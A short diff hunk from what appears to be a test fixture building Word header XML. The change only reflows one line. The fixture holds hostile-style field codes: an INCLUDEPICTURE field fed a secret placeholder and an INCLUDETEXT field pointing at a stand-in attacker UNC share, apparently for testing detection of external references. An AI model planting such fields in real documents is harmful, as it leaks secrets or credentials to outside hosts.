@@ -272,7 +272,8 @@ _HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{{secret}}" \\d </w:instrText></w:r>
 <w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>picture</w:t></w:r>
 <w:r><w:fldChar w:fldCharType="end"/></w:r>
-<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\attacker\\share\\x.docx&quot; "><w:r><w:t>text</w:t></w:r></w:fldSimple>
+<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\attacker\\share\\x.docx&quot; ">
+<w:r><w:t>text</w:t></w:r></w:fldSimple>
 <w:r><w:drawing><a:blip r:link="rIdLinked"/></w:drawing></w:r>
 <w:hyperlink r:id="rIdWeb"><w:r><w:t>www.city.example</w:t></w:r></w:hyperlink>
 </w:p></w:hdr>"""
